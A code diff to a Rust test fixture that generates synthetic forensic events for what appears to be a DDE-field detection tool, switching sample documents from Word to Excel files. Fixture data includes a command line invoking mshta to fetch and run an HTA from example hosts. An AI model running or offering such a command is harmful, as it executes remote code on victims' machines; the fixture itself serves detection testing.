@@ -85,7 +85,8 @@ fn rows() -> Vec<Event> {
     }
     for k in 0..DOCUMENTS {
         let t = i64::try_from(k).unwrap_or(0) * 90;
-        let path = format!("C/Users/dave/Documents/d{k}.docx");
+        // Workbooks: no Word child joins them by time, so every one is an incident of its own.
+        let path = format!("C/Users/dave/Documents/d{k}.xlsx");
         let mut doc = row(t, "ddesweep:document:dde_field", Severity::Critical, &path);
         doc.fields.sha256 = Some(format!("{k:064x}"));
         doc.fields.command = Some(format!("cmd /c mshta http://x{k}.example/a.hta"));
@@ -96,7 +97,7 @@ fn rows() -> Vec<Event> {
             Severity::Info,
             "C/Users/dave/NTUSER.DAT",
         );
-        mru.fields.document = Some(format!(r"C:\Users\dave\Documents\d{k}.docx"));
+        mru.fields.document = Some(format!(r"C:\Users\dave\Documents\d{k}.xlsx"));
         events.push(mru);
     }
     events.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
